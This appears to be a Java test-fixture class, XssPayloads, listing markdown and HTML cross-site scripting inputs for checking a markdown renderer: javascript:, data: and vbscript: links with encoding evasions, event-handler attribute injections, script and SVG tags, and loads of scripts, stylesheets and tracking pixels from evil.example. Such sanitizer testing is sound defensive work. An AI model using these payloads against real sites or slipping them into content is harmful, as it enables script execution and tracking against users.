package dev.coord.markdown;

import java.util.List;

/**
 * Markdown that runs a script, or loads something from another site, in one renderer or another.
 */
final class XssPayloads {
  static final List<String> LINKS =
      List.of(
          "[a](javascript:alert(1))",
          "[a](JaVaScRiPt:alert(1))",
          "[a](javascript&colon;alert(1))",
          "[a](&#106;avascript:alert(1))",
          "[a](&#x6A;&#x61;&#x76;&#x61;&#x73;cript:alert(1))",
          "[a](java&#115;cript:alert(1))",
          "[a](java&Tab;script:alert(1))",
          "[a](java&NewLine;script:alert(1))",
          "[a](java&#10;script:alert(1))",
          "[a](java&#13;script:alert(1))",
          "[a](&#1;javascript:alert(1))",
          "[a](&#x20;javascript:alert(1))",
          "[a](<javascript:alert(1)>)",
          "[a](< javascript:alert(1)>)",
          "[a](<java\tscript:alert(1)>)",
          "[a](\u0001javascript:alert(1))",
          "[a](\u00a0javascript:alert(1))",
          "[a](\u200bjavascript:alert(1))",
          "[a](javascript:alert(1) \"title\")",
          "[a](javascript:alert(1)//https://ok.example)",
          "[a](javascript://ok.example/%0Aalert(1))",
          "[a](\\javascript:alert(1))",
          "[a](javascript\\:alert(1))",
          "[a](j\\avascript:alert(1))",
          "[a](data:text/html,<script>alert(1)</script>)",
          "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
          "[a](DATA:text/html;charset=utf-8,x)",
          "[a](&#100;ata:text/html,x)",
          "[a](vbscript:msgbox(1))",
          "[a](VbScRiPt:msgbox(1))",
          "[a](feed:javascript:alert(1))",
          "[a](view-source:javascript:alert(1))",
          "[a](blob:https://evil.example/1)",
          "[a](file:///etc/passwd)",
          "[a](intent://evil#Intent;end)",
          "[a](//evil.example/x)",
          "[a](\\\\\\\\evil.example/x)",
          "[a](/\\\\evil.example/x)",
          "[a](/%5Cevil.example/x)",
          "[a](&#47;&#47;evil.example)",
          "[a](https:\\\\\\\\evil.example)",
          "[a](https:evil.example)",
          "[a](https:///evil.example)",
          "[a](https://ok.example@evil.example/)",
          "[javascript:alert(1)]()",
          "[a][r]\n\n[r]: javascript:alert(1)",
          "[r]\n\n[r]: <javascript:alert(1)> \"t\"",
          "[r][]\n\n[r]: java&#115;cript:alert(1)",
          "[r]\n\n[r]:\n  data:text/html,x",
          "[a](x \"onmouseover=alert(1)\")",
          "[a](x '\"onmouseover=alert(1) x=\"')",
          "[a](x\"onmouseover=alert(1))",
          "[a](<x\"onmouseover=alert(1)>)",
          "[\"><script>alert(1)</script>](x)",
          "[![a](x)](javascript:alert(1))",
          "[*a*](javascript:alert(1))",
          "**[a](javascript:alert(1))**");

  static final List<String> AUTOLINKS =
      List.of(
          "<javascript:alert(1)>",
          "<JAVASCRIPT:alert(1)>",
          "<javascript:alert&lpar;1&rpar;>",
          "<data:text/html,x>",
          "<vbscript:msgbox(1)>",
          "<\"onclick=alert(1)@a.b>",
          "javascript:alert(1)",
          "https://a.b/\"onmouseover=alert(1)",
          "https://a.b/'onmouseover='alert(1)",
          "www.a.b/\"><script>alert(1)</script>",
          "https://a.b/<script>alert(1)</script>");

  static final List<String> IMAGES =
      List.of(
          "![a](javascript:alert(1))",
          "![a](data:image/svg+xml,<svg/onload=alert(1)>)",
          "![a](data:image/svg+xml;base64,PHN2Zy8+)",
          "![a](https://evil.example/pixel.png)",
          "![a](//evil.example/pixel.png)",
          "![a](x \"onerror=alert(1)\")",
          "![a](x\"onerror=\"alert(1))",
          "![\"onerror=\"alert(1)](x)",
          "![<img src=x onerror=alert(1)>](x)",
          "![a][r]\n\n[r]: https://evil.example/pixel.png");

  static final List<String> HTML =
      List.of(
          "<script>alert(1)</script>",
          "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
          "<scr<script>ipt>alert(1)</scr</script>ipt>",
          "<img src=x onerror=alert(1)>",
          "<img src=\"https://evil.example/pixel.png\">",
          "<svg onload=alert(1)>",
          "<svg><script>alert(1)</script></svg>",
          "<svg><a xlink:href=\"javascript:alert(1)\"><text>a</text></a></svg>",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
          "<iframe src=\"javascript:alert(1)\"></iframe>",
          "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
          "<object data=\"javascript:alert(1)\"></object>",
          "<embed src=\"javascript:alert(1)\">",
          "<form action=\"javascript:alert(1)\"><button>a</button></form>",
          "<button formaction=javascript:alert(1)>a</button>",
          "<input autofocus onfocus=alert(1)>",
          "<details open ontoggle=alert(1)>",
          "<body onload=alert(1)>",
          "<base href=\"https://evil.example/\">",
          "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
          "<link rel=stylesheet href=https://evil.example/x.css>",
          "<style>@import 'https://evil.example/x.css';</style>",
          "<p style=\"background:url(javascript:alert(1))\">a</p>",
          "<a href=\"javascript:alert(1)\">a</a>",
          "<a href=javascript&colon;alert(1)>a</a>",
          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
          "<!--><script>alert(1)</script>-->",
          "<!-- --!><script>alert(1)</script>",
          "<![CDATA[<script>alert(1)</script>]]>",
          "<?php echo 1 ?><script>alert(1)</script>",
          "<template><script>alert(1)</script></template>",
          "<x onclick=alert(1)>a</x>",
          "<b\n onclick=alert(1)>a</b>",
          "\u0000<script>alert(1)</script>",
          "<div>\n\n<script>alert(1)</script>\n\n</div>");

  static final List<String> NESTED =
      List.of(
          "> - <script>alert(1)</script>",
          "| <img src=x onerror=alert(1)> |\n|---|\n| [a](javascript:alert(1)) |",
          "|a|\n|:-\"onclick=alert(1)-:|\n|b|",
          "- [ ] <script>alert(1)</script>",
          "- [x] [a](javascript:alert(1))",
          "# <img src=x onerror=alert(1)>",
          "# a {onclick=alert(1)}",
          "~~<script>alert(1)</script>~~",
          "`</code><script>alert(1)</script>`",
          "```\"onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```",
          "```html \"><script>alert(1)</script>\na\n```",
          "    </code></pre><script>alert(1)</script>",
          "a\\<script>alert(1)</script>",
          "*a<script>*alert(1)</script>",
          "1. ![a](javascript:alert(1))\n   <svg/onload=alert(1)>");

  private XssPayloads() {}
}
